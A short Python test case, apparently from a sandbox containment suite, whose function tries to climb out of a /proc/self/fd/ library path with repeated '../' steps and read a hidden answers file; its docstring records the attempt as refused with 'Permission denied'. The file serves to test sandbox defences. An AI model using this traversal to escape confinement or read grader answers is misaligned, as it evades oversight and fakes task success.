"""Climbs out of the descriptor that Python's own library is reached through.

Refused: Permission denied
"""

import os
import sys


def attack(bait):
    library = next(p for p in sys.path if p.startswith("/proc/self/fd/") and p[14:].isdigit())
    up = os.open(library + "/../" * 12 + bait["answers"].lstrip("/"), os.O_RDONLY)
    return os.read(up, 100)
